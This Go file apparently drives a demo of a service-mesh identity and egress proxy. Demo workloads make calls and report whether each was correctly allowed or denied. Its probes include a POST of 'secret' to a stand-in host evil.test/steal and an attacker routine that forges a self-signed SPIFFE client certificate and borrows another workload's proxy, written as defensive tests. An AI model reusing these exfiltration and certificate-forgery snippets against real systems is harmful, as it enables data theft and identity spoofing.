package main

import (
	"bytes"
	"cmp"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/big"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"sync"
	"time"
)

// A demoEvent is one thing that a program of the demo did, a line of JSON on
// its standard output. Want says what should have come of it.
type demoEvent struct {
	App      string `json:"app"`
	Probe    string `json:"probe"`
	Want     string `json:"want"`
	OK       bool   `json:"ok"`
	Status   int    `json:"status,omitempty"`
	Decision string `json:"decision,omitempty"`
	By       string `json:"by,omitempty"`  // who answered: a version of billing, or why none did
	For      string `json:"for,omitempty"` // the customer
	// Took is how long the call took.
	Took   time.Duration `json:"took,omitempty"`
	Seen   []string      `json:"seen,omitempty"` // the traces that programs on the way were told
	Detail string        `json:"detail,omitempty"`
	At     time.Time     `json:"at"`
}

// A demoApp is one program of the demo. It is ordinary: it speaks clear HTTP,
// finds the proxy in its environment and knows nothing of identities.
type demoApp struct {
	name   string
	listen string
	client *http.Client

	billing billing // what it is like, if it is billing

	mu  sync.Mutex // guards out
	out *json.Encoder
}

// demoAppEnv is what the demo tells its programs, beside the proxy variables.
const (
	envAppListen    = "DEMO_LISTEN"
	envEvery        = "DEMO_EVERY"
	envVictimTLS    = "DEMO_VICTIM_TLS"
	envVictimProxy  = "DEMO_VICTIM_PROXY"
	envTrustDomain  = "DEMO_TRUST_DOMAIN"
	envPartner      = "DEMO_PARTNER"  // it tries to reach a host that nobody may reach yet
	envIsolated     = "DEMO_ISOLATED" // it is to know of no proxy
	demoCallTimeout = 5 * time.Second
)

// runDemoApp is the hidden command "demo-app NAME".
func runDemoApp(ctx context.Context, name string, stdout io.Writer) error {
	a := &demoApp{
		name: name, listen: os.Getenv(envAppListen), billing: billing{version: cmp.Or(os.Getenv(envVersion), "v1")}, out: json.NewEncoder(stdout),
		client: &http.Client{Timeout: demoCallTimeout, Transport: &http.Transport{
			Proxy:               http.ProxyFromEnvironment,
			MaxIdleConnsPerHost: 4,
			IdleConnTimeout:     30 * time.Second,
		}},
	}
	if os.Getenv(envIsolated) != "" {
		a.client.Transport.(*http.Transport).Proxy = nil
	}
	every, err := time.ParseDuration(os.Getenv(envEvery))
	if err != nil || every <= 0 {
		return fmt.Errorf("%s: %q is not a duration such as 50ms", envEvery, os.Getenv(envEvery))
	}
	switch name {
	case "web":
		go a.repeat(ctx, every, a.buy)
		go a.repeat(ctx, time.Second, a.reachEvil)
		if os.Getenv(envPartner) != "" {
			go a.repeat(ctx, time.Second, a.reachPartner)
		}
		if os.Getenv(envTour) != "" {
			go a.repeat(ctx, time.Second, a.askStock)
		}
	case "payment":
		if token := os.Getenv(envToken); token != "" {
			go a.repeat(ctx, time.Second, func(ctx context.Context) { a.refund(ctx, token) })
		}
		go a.repeat(ctx, time.Second, a.spyOnInventory)
		go a.repeat(ctx, every, a.readBack)
		go a.repeat(ctx, time.Second, a.reachEvil)
	case "billing":
		go a.repeat(ctx, time.Second, a.reachEvil)
	case "batch":
		go a.repeat(ctx, time.Second, a.report)
	case "attacker":
		a.repeat(ctx, time.Second, a.attack)
		return nil
	}
	if a.listen == "" {
		<-ctx.Done()
		return nil
	}
	return a.serve(ctx)
}

// say prints an event.
func (a *demoApp) say(e demoEvent) {
	e.App, e.At = a.name, time.Now().UTC()
	a.mu.Lock()
	defer a.mu.Unlock()
	_ = a.out.Encode(e) // nobody listens any more: the demo is over
}

func (a *demoApp) repeat(ctx context.Context, every time.Duration, do func(context.Context)) {
	t := time.NewTicker(every)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			do(ctx)
		}
	}
}

// serve answers the calls of other programs.
func (a *demoApp) serve(ctx context.Context) error {
	mux := http.NewServeMux()
	switch a.name {
	case "payment":
		mux.HandleFunc("POST /v1/pay", a.relay("http://billing.mesh.internal/v1/charges"))
	case "billing", "billing-2", "billing-next":
		mux.Handle("POST /v1/charges", a.billing.mannered(a.relay("https://api.stripe.test/v1/charges")))
		mux.Handle("GET /v1/charges/{id}", a.billing.mannered(a.billing.charge))
		mux.HandleFunc("POST /v1/refunds", func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprintf(w, "{\"for\": %q}\n", r.Header.Get("X-User"))
		})
		mux.HandleFunc("GET /v1/report", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, `{"charges": 7}`) })
		mux.HandleFunc("PUT /manners", a.billing.behave) // no row lets a workload call it
	case "inventory":
		mux.HandleFunc("POST "+stockMethod, stock)
		mux.HandleFunc("GET /v1/stock/", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, `{"stock": 3}`) })
	}
	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 10 * time.Second, Protocols: new(http.Protocols)}
	srv.Protocols.SetHTTP1(true)
	srv.Protocols.SetUnencryptedHTTP2(true)
	ln, err := net.Listen("tcp", a.listen)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { srv.Close() })
	defer stop()
	if err := srv.Serve(ln); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}

// relay answers a POST with what a POST to next answers.
func (a *demoApp) relay(next string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		// What makes one trace of many calls: every program hands on what came.
		status, h, reply, err := a.do(r.Context(), http.MethodPost, next, body, headerCustomer, r.Header.Get(headerCustomer),
			"Traceparent", r.Header.Get("Traceparent"), "X-Request-Id", r.Header.Get("X-Request-Id"))
		if err != nil {
			http.Error(w, fmt.Sprintf("%s: %v", a.name, err), http.StatusBadGateway)
			return
		}
		if by := answeredBy(h); by != "" {
			w.Header().Set(headerBy, by)
		}
		w.Header()[headerSeen] = append(h[headerSeen], r.Header.Get("Traceparent"))
		w.WriteHeader(status)
		_, _ = w.Write(reply)
	}
}

func (a *demoApp) post(ctx context.Context, target string, body []byte) (status int, h http.Header, reply []byte, err error) {
	return a.do(ctx, http.MethodPost, target, body)
}

// do makes a call, with the names and values of header fields.
func (a *demoApp) do(ctx context.Context, method, target string, body []byte, fields ...string) (status int, h http.Header, reply []byte, err error) {
	req, err := http.NewRequestWithContext(ctx, method, target, bytes.NewReader(body))
	if err != nil {
		return 0, nil, nil, err
	}
	for f := range slices.Chunk(fields, 2) {
		req.Header.Set(f[0], f[1])
	}
	resp, err := a.client.Do(req)
	if err != nil {
		return 0, nil, nil, err
	}
	defer resp.Body.Close()
	reply, err = io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, resp.Header, reply, err
}

// buy is the call that goes through everything: web, payment, billing, the
// gateway and the world outside.
func (a *demoApp) buy(ctx context.Context) {
	customer := fmt.Sprintf("customer-%d", mrand.IntN(demoCustomers))
	status, h, reply, err := a.do(ctx, http.MethodPost, "http://payment.mesh.internal/v1/pay", []byte(`{"amount": 100}`), headerCustomer, customer)
	if ctx.Err() != nil {
		return
	}
	e := demoEvent{Probe: "buy", Want: "allow", Status: status, OK: err == nil && status == http.StatusOK, By: h.Get(headerBy), For: customer, Seen: h[headerSeen]}
	if !e.OK {
		e.Detail = fmt.Sprintf("%.200s %v", reply, err)
		e.Decision = h.Get("Sallyport-Decision")
	}
	a.say(e)
}

// refused reports whether an answer is a proper refusal: 403, with the
// decision's id both in the header and in the JSON body.
func refused(status int, h http.Header, reply []byte) bool {
	var body struct {
		Decision string `json:"decision"`
	}
	id := h.Get("Sallyport-Decision")
	return status == http.StatusForbidden && id != "" && json.Unmarshal(reply, &body) == nil && body.Decision == id
}

func (a *demoApp) spyOnInventory(ctx context.Context) {
	status, h, reply, err := a.do(ctx, http.MethodGet, "http://inventory.mesh.internal/v1/stock/9", nil)
	if ctx.Err() != nil {
		return
	}
	e := demoEvent{Probe: "inventory", Want: "deny", Status: status, Decision: h.Get("Sallyport-Decision"), OK: err == nil && refused(status, h, reply)}
	if !e.OK {
		e.Detail = fmt.Sprintf("%.200s %v", reply, err)
	}
	a.say(e)
}

// reachEvil tries to send something to a place nobody may reach.
func (a *demoApp) reachEvil(ctx context.Context) {
	status, _, _, err := a.post(ctx, "https://evil.test/steal", []byte("secret"))
	if ctx.Err() != nil {
		return
	}
	e := demoEvent{Probe: "evil", Want: "deny", Status: status, OK: err != nil && status == 0}
	if err != nil {
		e.Detail = err.Error()
	}
	a.say(e)
}

// reachPartner tries a place that a row may let it reach.
func (a *demoApp) reachPartner(ctx context.Context) {
	status, _, _, err := a.do(ctx, http.MethodGet, "https://"+demoPartner+"/", nil)
	if ctx.Err() == nil {
		a.say(demoEvent{Probe: "partner", Want: "allow", Status: status, OK: err == nil && status == http.StatusOK})
	}
}

func (a *demoApp) report(ctx context.Context) {
	status, _, _, err := a.do(ctx, http.MethodGet, "http://billing.mesh.internal/v1/report", nil)
	if ctx.Err() == nil {
		a.say(demoEvent{Probe: "report", Want: "allow", Status: status, OK: err == nil && status == http.StatusOK})
	}
	status, h, reply, err := a.post(ctx, "http://billing.mesh.internal/v1/charges", []byte(`{"amount": 1}`))
	if ctx.Err() == nil {
		a.say(demoEvent{Probe: "write", Want: "deny", Status: status, Decision: h.Get("Sallyport-Decision"), OK: err == nil && refused(status, h, reply)})
	}
}

// attack is what a program without an identity can try on this machine.
func (a *demoApp) attack(ctx context.Context) {
	victim := os.Getenv(envVictimTLS)
	td := os.Getenv(envTrustDomain)
	for name, cert := range map[string]func() (*tls.Certificate, error){
		"no certificate":     func() (*tls.Certificate, error) { return new(tls.Certificate), nil },
		"forged certificate": func() (*tls.Certificate, error) { return forge("spiffe://" + td + "/ns/shop/sa/payment") },
	} {
		cert, err := cert()
		if err == nil {
			err = handshake(ctx, victim, cert)
		}
		if ctx.Err() != nil {
			return
		}
		a.say(demoEvent{Probe: "handshake", Want: "deny", OK: err != nil, Detail: fmt.Sprintf("%s: %v", name, err)})
	}
	proxy := &url.URL{Scheme: "http", Host: os.Getenv(envVictimProxy)}
	tr := &http.Transport{Proxy: http.ProxyURL(proxy), DisableKeepAlives: true}
	other := &demoApp{name: a.name, client: &http.Client{Timeout: demoCallTimeout, Transport: tr}}
	status, _, reply, err := other.post(ctx, "http://billing.mesh.internal/v1/charges", []byte(`{"amount": 1}`))
	if ctx.Err() != nil {
		return
	}
	a.say(demoEvent{Probe: "borrow", Want: "deny", Status: status, OK: err != nil || status == http.StatusForbidden, Detail: fmt.Sprintf("%.120s", reply)})
}

// handshake completes TLS with addr, and with TLS 1.3 waits for the server's
// word: the client's part is done before its certificate has been judged.
func handshake(ctx context.Context, addr string, cert *tls.Certificate) error {
	d := tls.Dialer{Config: &tls.Config{
		InsecureSkipVerify:   true, //nolint:gosec // an attacker does not care whom it talks to
		GetClientCertificate: func(*tls.CertificateRequestInfo) (*tls.Certificate, error) { return cert, nil },
	}}
	ctx, cancel := context.WithTimeout(ctx, demoCallTimeout)
	defer cancel()
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	if _, err := io.WriteString(c, "GET /v1/report HTTP/1.1\r\nHost: billing.mesh.internal\r\n\r\n"); err != nil {
		return err
	}
	if err := c.SetReadDeadline(time.Now().Add(demoCallTimeout)); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 1))
	return err
}

// forge makes a certificate that claims an identity and that nobody signed.
func forge(id string) (*tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	u, err := url.Parse(id)
	if err != nil {
		return nil, err
	}
	t := &x509.Certificate{
		SerialNumber: big.NewInt(time.Now().UnixNano()), URIs: []*url.URL{u},
		NotBefore: time.Now().Add(-time.Minute), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, BasicConstraintsValid: true,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth, x509.ExtKeyUsageClientAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, t, t, key.Public(), key)
	if err != nil {
		return nil, err
	}
	return &tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
}
